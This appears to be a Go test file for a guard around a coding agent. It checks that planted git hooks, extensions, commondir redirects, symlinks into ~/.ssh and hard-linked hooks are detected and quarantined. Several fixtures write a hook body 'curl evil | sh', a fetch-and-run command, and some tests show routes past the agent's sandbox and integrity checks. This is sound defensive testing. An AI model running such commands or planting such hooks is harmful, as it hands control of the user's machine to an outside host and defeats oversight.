package engine

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/piagent/piagent/internal/approval"
	"github.com/piagent/piagent/internal/baseline"
	"github.com/piagent/piagent/internal/gate"
	"github.com/piagent/piagent/internal/guard"
	"github.com/piagent/piagent/internal/policy"
	"github.com/piagent/piagent/internal/registry"
	"github.com/piagent/piagent/internal/safefile"
	"github.com/piagent/piagent/internal/sandbox"
)

func readCall() guard.Call {
	return guard.Call{ToolName: "read", Input: map[string]any{"path": "src/main.go"}}
}

// A file planted in the project's Pi folder during a session (a folder the
// sandbox could not make read-only because it did not exist) blocks every
// further call; the adapter's and the person's own MCP edits do not.
func TestIntegrityBlocksPlantedExtension(t *testing.T) {
	t.Parallel()
	home, proj := registryWorld(t)
	os.RemoveAll(filepath.Join(proj, ".pi"))
	s := &Engine{Home: home, Cwd: proj}
	if d := s.Check(readCall()); !d.Allowed() {
		t.Fatalf("first call: %+v", d)
	}
	// a positive control: the person's /piagent-mcp disable writes .pi/mcp.json
	os.MkdirAll(filepath.Join(proj, ".pi"), 0o755)
	if d := s.Check(readCall()); d.Allowed() {
		t.Fatalf("a new .pi folder went unnoticed")
	}
	// and it was put back: the folder is in the quarantine, not the project
	if _, err := os.Lstat(filepath.Join(proj, ".pi")); !os.IsNotExist(err) {
		t.Fatalf("the new .pi folder stayed: %v", err)
	}
	if qs, _ := baseline.List(home); len(qs) != 1 || len(qs[0].Changes) != 1 || qs[0].Changes[0].Path != ".pi" || !qs[0].Changes[0].Kept {
		t.Fatalf("quarantine: %+v", qs)
	}

	os.MkdirAll(filepath.Join(proj, ".pi"), 0o755)
	s = &Engine{Home: home, Cwd: proj}
	if d := s.Check(readCall()); !d.Allowed() {
		t.Fatalf("fresh session: %+v", d)
	}
	os.WriteFile(filepath.Join(proj, ".pi", "mcp.json"), []byte(`{"mcpServers":{}}`), 0o644)
	os.MkdirAll(filepath.Join(proj, ".pi", "mcp-traces"), 0o755)
	if d := s.Check(readCall()); !d.Allowed() {
		t.Fatalf("an MCP file edit blocked the session: %+v", d)
	}
	os.MkdirAll(filepath.Join(proj, ".pi", "extensions"), 0o755)
	os.WriteFile(filepath.Join(proj, ".pi", "extensions", "x.ts"), []byte("export default () => {}"), 0o644)
	d := s.Check(readCall())
	if d.Allowed() || d.Code != CodeIntegrity || !strings.Contains(d.Reason, ".pi") {
		t.Fatalf("planted extension: %+v", d)
	}
	// a git hook likewise
	s = &Engine{Home: home, Cwd: proj}
	s.Check(readCall())
	os.WriteFile(filepath.Join(proj, ".git", "hooks", "pre-commit"), []byte("#!/bin/sh\n"), 0o755)
	if d := s.Check(readCall()); d.Code != CodeIntegrity {
		t.Fatalf("planted hook: %+v", d)
	}
	// what git reads that did not exist when the session started, which
	// no mount can keep (issue 38): a commondir pointing at a copy whose
	// config sets core.fsmonitor, a linked work tree, info/
	for _, plant := range []func(git string){
		func(git string) { os.WriteFile(filepath.Join(git, "commondir"), []byte("../evil-git\n"), 0o644) },
		func(git string) { os.MkdirAll(filepath.Join(git, "worktrees", "w"), 0o755) },
		func(git string) { os.MkdirAll(filepath.Join(git, "info"), 0o755) },
	} {
		git := filepath.Join(proj, ".git")
		for _, f := range []string{"commondir", "worktrees", "info"} {
			os.RemoveAll(filepath.Join(git, f))
		}
		s = &Engine{Home: home, Cwd: proj}
		if d := s.Check(readCall()); d.Code == CodeIntegrity {
			t.Fatalf("fresh session: %+v", d)
		}
		plant(git)
		if d := s.Check(readCall()); d.Code != CodeIntegrity {
			t.Errorf("planted in .git: %+v", d)
		}
	}
}

// sandbox "required" in the user's policy blocks bash where no sandbox
// applies, and only bash; "auto" lets it run and the notice says so.
func TestSandboxRequired(t *testing.T) {
	t.Parallel()
	home, proj := registryWorld(t)
	bash := guard.Call{ToolName: "bash", Input: map[string]any{"command": "go test ./..."}}
	none := &sandbox.Status{Missing: "the kernel has no Landlock"}

	s := &Engine{Home: home, Cwd: proj, probe: none}
	if d := s.Check(bash); !d.Allowed() {
		t.Fatalf("auto: %+v", d)
	}
	if n := sandboxNotice(*none); len(n) != 1 || !strings.Contains(n[0], "no sandbox") {
		t.Errorf("notice: %v", n)
	}

	if err := os.WriteFile(registry.UserPolicy(home), []byte(`{"version": 1, "sandbox": "required"}`), 0o600); err != nil {
		t.Fatal(err)
	}
	s = &Engine{Home: home, Cwd: proj, probe: none}
	d := s.Check(bash)
	if d.Allowed() || d.Code != CodeNoSandbox || !strings.Contains(d.Reason, "Landlock") {
		t.Fatalf("required without a sandbox: %+v", d)
	}
	if d := s.Check(readCall()); !d.Allowed() {
		t.Fatalf("required blocks read too: %+v", d)
	}
	s = &Engine{Home: home, Cwd: proj, probe: &sandbox.Status{Mechanism: "landlock", ABI: 7}}
	if d := s.Check(bash); !d.Allowed() {
		t.Fatalf("required with a sandbox: %+v", d)
	}
}

func TestPowershellBlocked(t *testing.T) {
	t.Parallel()
	home, proj := registryWorld(t)
	s := &Engine{Home: home, Cwd: proj}
	if d := s.Check(guard.Call{ToolName: "powershell", Input: map[string]any{"command": "Get-ChildItem"}}); d.Allowed() || d.Code != CodeNoSandbox {
		t.Fatalf("powershell: %+v", d)
	}
}

// The registry's secrets are protected paths wherever the agent dir is:
// Pi's auth.json under a moved agent dir, the adapter's token folder.
func TestRegistrySecretsProtected(t *testing.T) {
	t.Parallel()
	home, proj := registryWorld(t)
	agent := filepath.Join(home, "elsewhere", "agent")
	s := &Engine{Home: home, Cwd: proj, Getenv: func(k string) string {
		if k == "PI_CODING_AGENT_DIR" {
			return agent
		}
		return ""
	}}
	for _, p := range []string{filepath.Join(agent, "auth.json"), filepath.Join(agent, "mcp-oauth", "x", "tokens.json")} {
		d := s.Check(guard.Call{ToolName: "read", Input: map[string]any{"path": p}})
		if d.Allowed() {
			t.Errorf("read %s: allowed", p)
		}
	}
	if d := s.Check(guard.Call{ToolName: "read", Input: map[string]any{"path": filepath.Join(agent, "models.json")}}); !d.Allowed() {
		t.Errorf("read models.json (not a secret): %+v", d)
	}
}

// The mode answer says where the mode comes from, so /piagent-mode does not
// call the policy's default "chosen for this project" (issue 23).
func TestModeSource(t *testing.T) {
	t.Parallel()
	home, proj := registryWorld(t)
	s := &Engine{Home: home, Cwd: proj}
	src := func() string {
		v, err := s.Mode("")
		if err != nil {
			t.Fatal(err)
		}
		return v.Source
	}
	if got := src(); got != "default" {
		t.Errorf("nobody chose: %s", got)
	}
	g, _ := s.gate()
	if err := policy.SetProjectMode(home, g.Project, "readOnly"); err != nil {
		t.Fatal(err)
	}
	s = &Engine{Home: home, Cwd: proj}
	if got := src(); got != "project" {
		t.Errorf("the person chose: %s", got)
	}
	if _, err := s.Mode("ship"); err != nil {
		t.Fatal(err)
	}
	if got := src(); got != "session" {
		t.Errorf("this session chose: %s", got)
	}
}

// Issue 38, item 3: the launcher's baseline is taken before Pi and any
// server start, so a hook an approved server plants at its start (before
// the session's first tool call) is seen at that first call, put back and
// kept in a quarantine. The control is a plain pi: its baseline is the
// first request's, which already holds the hook.
func TestIntegrityLauncherBaseline(t *testing.T) {
	t.Parallel()
	home, proj := registryWorld(t)
	hook := filepath.Join(proj, ".git", "hooks", "post-checkout")
	plant := func() {
		if err := os.WriteFile(hook, []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	s, err := baseline.Take(proj, baseline.Roots("", proj, ".pi"))
	if err != nil {
		t.Fatal(err)
	}
	file, err := baseline.Save(home, s)
	if err != nil {
		t.Fatal(err)
	}
	plant() // the server's start
	en := &Engine{Home: home, Cwd: proj, Getenv: func(k string) string {
		if k == baseline.EnvBaseline {
			return file
		}
		return ""
	}}
	d := en.Check(readCall())
	if d.Allowed() || d.Code != CodeIntegrity || !strings.Contains(d.Reason, "at the launcher's start") || !strings.Contains(d.Reason, "piagent quarantine show") {
		t.Fatalf("first call after a start-up hook: %+v", d)
	}
	if _, err := os.Lstat(hook); !os.IsNotExist(err) {
		t.Fatalf("the hook stayed: %v", err)
	}
	if d := en.Check(readCall()); d.Code != CodeIntegrity {
		t.Fatalf("the session did not stay blocked after the restore: %+v", d)
	}
	qs, _ := baseline.Pending(home, proj)
	if len(qs) != 1 || qs[0].Changes[0].Path != ".git/hooks/post-checkout" || qs[0].Source != baseline.DuringSession {
		t.Fatalf("quarantine: %+v", qs)
	}

	// the control: under a plain pi the hook is part of the baseline
	plant()
	en = &Engine{Home: home, Cwd: proj}
	if d := en.Check(readCall()); !d.Allowed() {
		t.Fatalf("plain pi: %+v", d)
	}
	// a baseline file outside piagent's folder is not trusted: the first
	// request's state is used, and said
	os.Remove(hook)
	en = &Engine{Home: home, Cwd: proj, Getenv: func(k string) string {
		if k == baseline.EnvBaseline {
			return filepath.Join(proj, "forged.json")
		}
		return ""
	}}
	en.Check(readCall())
	plant()
	if d := en.Check(readCall()); d.Code != CodeIntegrity || !strings.Contains(d.Reason, "could not be read") {
		t.Fatalf("forged baseline: %+v", d)
	}
}

// Issue 46: a write beside the watched roots (README.md beside .pi,
// .git/index beside .git/hooks) is answered without comparing with the
// baseline; a hook planted after such writes, and a .git replaced by a
// file, are still seen. Not parallel: it counts comparisons.
func TestIntegrityIgnoresWritesBeside(t *testing.T) {
	home, proj := registryWorld(t)
	en := &Engine{Home: home, Cwd: proj}
	if d := en.Check(readCall()); !d.Allowed() {
		t.Fatalf("first call: %+v", d)
	}
	before := compares.Load()
	for i := range 5 {
		os.WriteFile(filepath.Join(proj, "README.md"), []byte{byte('a' + i)}, 0o644)
		os.WriteFile(filepath.Join(proj, ".git", "index"), []byte{byte('a' + i)}, 0o644)
		os.Mkdir(filepath.Join(proj, fmt.Sprintf("build%d", i)), 0o755) // a folder beside
		if d := en.Check(readCall()); !d.Allowed() {
			t.Fatalf("after a write beside: %+v", d)
		}
	}
	if n := compares.Load() - before; n != 0 {
		t.Errorf("%d comparisons with the baseline after writes beside the roots, want 0", n)
	}
	os.WriteFile(filepath.Join(proj, "README.md"), []byte("x"), 0o644)
	os.WriteFile(filepath.Join(proj, ".git", "hooks", "pre-push"), []byte("#!/bin/sh\n"), 0o755)
	if d := en.Check(readCall()); d.Code != CodeIntegrity {
		t.Fatalf("a hook planted beside a write: %+v", d)
	}
	if compares.Load() == before {
		t.Error("the planted hook was not compared")
	}

	// .git swapped for a gitdir: file (an event on an ancestor of a root)
	en = &Engine{Home: home, Cwd: proj}
	en.Check(readCall())
	if err := os.Rename(filepath.Join(proj, ".git"), filepath.Join(proj, "real-git")); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(proj, ".git"), []byte("gitdir: real-git\n"), 0o644)
	if d := en.Check(readCall()); d.Code != CodeIntegrity {
		t.Fatalf(".git replaced by a file: %+v", d)
	}
}

// Issue 46: where paths lead is remembered across a write in the project
// (the read after an edit resolves nothing again), and a file replaced by
// a link to a folder is seen for the paths below it, remembered missing. Not parallel: it
// counts resolutions.
func TestLinkCacheAfterWrite(t *testing.T) {
	home, proj := registryWorld(t)
	os.MkdirAll(filepath.Join(proj, "src"), 0o755)
	os.WriteFile(filepath.Join(proj, "src", "main.go"), []byte("package main\n"), 0o644)
	secrets := filepath.Join(home, ".ssh")
	os.MkdirAll(secrets, 0o700)
	os.WriteFile(filepath.Join(secrets, "notes.txt"), []byte("key\n"), 0o600)
	en := &Engine{Home: home, Cwd: proj}
	under := guard.Call{ToolName: "read", Input: map[string]any{"path": "keys/notes.txt"}}
	for range 2 {
		if d := en.Check(readCall()); !d.Allowed() {
			t.Fatalf("read: %+v", d)
		}
		if d := en.Check(under); !d.Allowed() {
			t.Fatalf("read of keys/notes.txt, missing: %+v", d)
		}
	}
	before := resolutions.Load()
	for i := range 5 {
		os.WriteFile(filepath.Join(proj, "README.md"), []byte{byte('a' + i)}, 0o644)
		os.Mkdir(filepath.Join(proj, fmt.Sprintf("out%d", i)), 0o755) // a folder beside every path
		if d := en.Check(readCall()); !d.Allowed() {
			t.Fatalf("read after a write: %+v", d)
		}
	}
	if n := resolutions.Load() - before; n != 0 {
		t.Errorf("%d paths resolved again after writes of README.md, want 0", n)
	}
	// keys, missing, becomes a link to ~/.ssh (an event naming a file, not
	// a folder): keys/notes.txt now leads there
	if err := os.Symlink(secrets, filepath.Join(proj, "keys")); err != nil {
		t.Fatal(err)
	}
	if d := en.Check(under); d.Allowed() {
		t.Fatalf("read of keys/notes.txt, keys now a link into ~/.ssh: %+v", d)
	}
	// and a store remembered missing under a folder that becomes a link to
	// piagent's own (what piagent resolves for its own files)
	store := guard.Call{ToolName: "write", Input: map[string]any{"path": "state/piagent-mcp-approvals.json", "content": "{}"}}
	if d := en.Check(store); !d.Allowed() {
		t.Fatalf("write under a missing folder: %+v", d)
	}
	os.WriteFile(filepath.Join(proj, "README.md"), []byte("z"), 0o644)
	en.Check(readCall())
	if err := os.Symlink(filepath.Join(home, ".pi"), filepath.Join(proj, "state")); err != nil {
		t.Fatal(err)
	}
	if d := en.Check(store); d.Allowed() {
		t.Fatalf("write of state/piagent-mcp-approvals.json, state now a link to ~/.pi: %+v", d)
	}
}

// Issue 46: after an edit of a file a server pins, the snapshot is judged
// again from the refreshed gate, reusing the policy, the mode and the
// adapter's cache; the server's state follows the file each time. Not
// parallel: it counts the parts computed.
func TestSnapshotAfterPinnedEdit(t *testing.T) {
	home, proj := registryWorld(t)
	// x.js, which the definition names, has no manifest above it: its
	// package, pinned whole, is the project; lib.js is one of its files
	code := filepath.Join(proj, "lib.js")
	os.WriteFile(filepath.Join(proj, "x.js"), []byte("require('./lib.js')\n"), 0o644)
	os.WriteFile(code, []byte("// approved\n"), 0o644)
	g, err := gate.Load(gate.Options{Home: home, Cwd: proj})
	if err != nil {
		t.Fatal(err)
	}
	s, _ := g.Server("evil")
	files := map[string]string{}
	for _, p := range s.Pinned {
		files[p.Path] = p.Digest
	}
	if files["lib.js"] == "" {
		t.Fatalf("lib.js is not pinned: %+v", s.Pinned)
	}
	if err := approval.Open(registry.ApprovalStore(home)).Update(func(d *approval.Data) error {
		d.Set(g.Project, "evil", approval.Decision{Decision: "approved", Digest: s.Digest, DecidedAt: "2026-12-06T00:00:00Z", Files: files})
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	time.Sleep(safefile.RacyWindow)
	call := guard.Call{ToolName: "mcp", Input: map[string]any{"tool": "echo", "server": "evil"}}
	en := &Engine{Home: home, Cwd: proj}
	if d := en.Check(call); !d.Allowed() {
		t.Fatalf("approved: %+v", d)
	}
	before := partsComputed.Load()
	for i := range 4 {
		body, want := "// changed\n", false
		if i%2 == 1 {
			body, want = "// approved\n", true
		}
		os.WriteFile(code, []byte(body), 0o644)
		if d := en.Check(call); d.Allowed() != want {
			t.Fatalf("edit %d (%q): allowed %v, want %v: %+v", i, body, d.Allowed(), want, d)
		}
	}
	if n := partsComputed.Load() - before; n != 0 {
		t.Errorf("the policy and the rest read again %d times after edits of a pinned file, want 0", n)
	}
	// the control: a change of the policy itself is read
	os.WriteFile(registry.UserPolicy(home), []byte(`{"version": 1}`), 0o644)
	en.Check(call)
	if partsComputed.Load() == before {
		t.Error("a new policy file was not read")
	}
}

// A hook rewritten through a second name (a hard link beside the watched
// folders, or outside every one) is an event on that name alone, or none:
// the first is compared at once, the second within the re-check. Not
// parallel: it sets recheck.
func TestIntegrityHardLinkedHook(t *testing.T) {
	old := recheck
	recheck = 300 * time.Millisecond
	defer func() { recheck = old }()
	for _, where := range []string{"beside", "outside"} {
		t.Run(where, func(t *testing.T) {
			home, proj := registryWorld(t)
			hook := filepath.Join(proj, ".git", "hooks", "pre-commit")
			os.WriteFile(hook, []byte("#!/bin/sh\nexit 0\n"), 0o755)
			alias := filepath.Join(proj, "notes.txt")
			if where == "outside" {
				alias = filepath.Join(filepath.Dir(proj), "notes.txt")
			}
			en := &Engine{Home: home, Cwd: proj}
			if d := en.Check(readCall()); !d.Allowed() {
				t.Fatalf("first call: %+v", d)
			}
			if err := os.Link(hook, alias); err != nil {
				t.Skip("no hard links here:", err)
			}
			if d := en.Check(readCall()); !d.Allowed() {
				t.Fatalf("a second name alone changes nothing: %+v", d)
			}
			f, err := os.OpenFile(alias, os.O_WRONLY|os.O_APPEND, 0)
			if err != nil {
				t.Fatal(err)
			}
			f.WriteString("curl evil | sh\n")
			f.Close()
			deadline := time.Now().Add(recheck + 2*time.Second)
			for {
				d := en.Check(readCall())
				if d.Code == CodeIntegrity {
					break
				}
				if where == "beside" || time.Now().After(deadline) {
					t.Fatalf("the hook rewritten through %s: %+v", alias, d)
				}
				time.Sleep(50 * time.Millisecond)
			}
		})
	}
}
